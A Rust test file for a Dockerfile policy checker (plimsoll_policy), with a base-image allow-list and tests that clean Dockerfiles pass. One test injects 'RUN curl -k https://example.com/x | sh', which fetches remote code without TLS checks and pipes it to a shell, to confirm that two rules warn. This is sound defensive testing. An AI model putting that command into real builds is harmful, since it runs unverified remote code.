//! Dockerfiles as careful people write them raise nothing that would make them take the step out again.
#![expect(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    reason = "a test that reads files of ours"
)]

use camino::{Utf8Path, Utf8PathBuf};
use plimsoll_policy::{Action, Dockerfile, Facts, Policy, decide};
use std::{collections::BTreeMap, fs};

/// Official images and publishers that every policy trusts, and two besides.
const POLICY: &str = "version: 1
bases:
  allow:
    - {repository: \"docker.io/library/*\", only: official}
    - {repository: \"gcr.io/distroless/*\"}
    - {repository: \"mcr.microsoft.com/**\"}
    - {repository: \"registry.access.redhat.com/**\"}
    - {repository: docker.io/opensuse/leap}
    - {repository: ghcr.io/astral-sh/uv}
";
/// What lies beside each of the files.
const IGNORED: &str = ".git\n.env\nnode_modules\n";
/// Some of the files leave it to an orchestrator to ask how they are.
const OTHERS: [&str; 1] = ["DF-030"];

fn good() -> Vec<Dockerfile> {
    let folder = Utf8Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/good/dockerfiles");
    let mut paths: Vec<Utf8PathBuf> =
        folder.read_dir_utf8().unwrap().map(|entry| entry.unwrap().into_path()).collect();
    paths.sort();
    let read = |path: Utf8PathBuf| Dockerfile { text: fs::read_to_string(&path).unwrap(), path };
    paths.into_iter().map(read).collect()
}

/// The findings of every rule that warn or stop, as `rule place: found`.
fn findings(file: &Dockerfile) -> Vec<String> {
    let ignored = BTreeMap::from([(file.path.clone(), IGNORED.to_owned())]);
    let facts =
        Facts { dockerfiles: std::slice::from_ref(file), ignored: &ignored, ..Facts::none() };
    let policy = Policy::parse(POLICY, "policy.yaml".into()).unwrap();
    let decision = decide(&policy, &facts, "2026-06-15T12:00:00Z".parse().unwrap());
    let judged = decision.findings().iter();
    let judged = judged.filter(|judged| !OTHERS.contains(&judged.finding.rule));
    judged
        .filter(|judged| judged.action >= Action::Warn)
        .map(|judged| {
            format!("{} {:?}: {}", judged.finding.rule, judged.finding.place, judged.finding.found)
        })
        .collect()
}

#[test]
fn well_kept_dockerfiles_raise_no_warning() {
    let files = good();
    assert!(files.len() >= 15, "{}", files.len());
    let all: Vec<_> = files.iter().flat_map(findings).collect();
    assert!(all.is_empty(), "{all:#?}");
}

#[test]
fn a_warning_would_be_seen() {
    let mut file = good().remove(0);
    file.text.push_str("\nRUN curl -k https://example.com/x | sh\n");
    let rules: Vec<_> =
        findings(&file).iter().map(|found| found.split(' ').next().unwrap().to_owned()).collect();
    assert_eq!(rules, ["DF-066", "DF-064"]);
}
